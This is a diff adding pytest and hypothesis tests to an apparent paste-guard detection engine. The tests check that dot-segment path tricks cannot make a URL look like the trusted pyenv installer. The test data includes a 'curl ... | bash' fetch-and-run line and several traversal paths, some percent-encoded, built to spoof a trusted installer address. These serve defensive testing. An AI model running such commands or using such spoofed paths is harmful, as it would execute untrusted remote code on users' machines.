@@ -22,7 +22,7 @@ import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from app.detection import Context, Engine, PasteTarget, scamsentence
+from app.detection import Context, Engine, Level, PasteTarget, scamsentence
 from app.detection.engine import default_trust_path
 from app.detection.indicators import parse_url
 from app.detection.provenance import (
@@ -367,3 +367,53 @@ def test_a_wallet_grant_to_a_stranger_is_found_whatever_test_account_is_beside_i
     assert "PG-JS-WALLET-GRANT" in alone.rule_ids  # the barrier: found without the account
     verdict = engine.analyze(grant + beside, Context(page, PasteTarget.BROWSER_CONSOLE))
     assert "PG-JS-WALLET-GRANT" in verdict.rule_ids, verdict.rule_ids
+
+
+# --- an installer's path prefix is not left by dot segments ------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["../../acme-test/widget/main/fix.sh", "./../../acme-test/w/main/x.sh",
+     "%2e%2e/%2E./acme-test/widget/main/x.sh", "master/../../../acme-test/w/main/x.sh"],
+)  # fmt: skip
+def test_a_path_that_climbs_out_of_an_installers_prefix_is_no_installer(
+    engine: Engine, path: str
+) -> None:
+    # curl and browsers remove dot segments before they ask: this fetches someone else's
+    # script from a host anyone publishes on, under an address that starts like pyenv's
+    prefix = "https://raw.githubusercontent.com/pyenv/pyenv-installer/"
+    url = parse_url(prefix + path)
+    assert url is not None and url.path.startswith("/pyenv/pyenv-installer/")
+    assert _trust().installer_for(url) is None
+    own = parse_url(prefix + "master/bin/pyenv-installer")
+    assert own is not None and _trust().installer_for(own) == "pyenv"  # the barrier
+    verdict = engine.analyze(
+        f"curl -fsSL {prefix}{path} | bash", Context(None, PasteTarget.TERMINAL)
+    )
+    assert "PG-INFO-KNOWN-INSTALLER" not in verdict.rule_ids
+    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
+
+
+@given(
+    path=st.lists(
+        st.sampled_from(["..", ".", "%2e%2e", "%2E", ".%2e", "master", "bin", "acme-test", "",
+                         "pyenv-installer", "..x", "x..", "...", "%2e%2e%2f"]),
+        max_size=6,
+    ).map("/".join)
+)  # fmt: skip
+@settings(max_examples=300, deadline=None)  # a loaded machine: no per-example deadline
+def test_an_installer_with_a_prefix_is_named_only_where_curl_fetches_under_it(path: str) -> None:
+    raw = "https://raw.githubusercontent.com/pyenv/pyenv-installer/" + path
+    url = parse_url(raw)
+    if url is None or not _trust().installer_for(url):
+        return
+    # what curl asks for: the path with its dot segments removed (RFC 3986 5.2.4), %2e as a dot
+    segments: list[str] = []
+    for segment in url.path.split("/")[1:]:
+        plain = segment.lower().replace("%2e", ".")
+        if plain == "..":
+            segments = segments[:-1]
+        elif plain != ".":
+            segments.append(segment)
+    assert "/".join(segments).lower().startswith("pyenv/pyenv-installer/"), raw
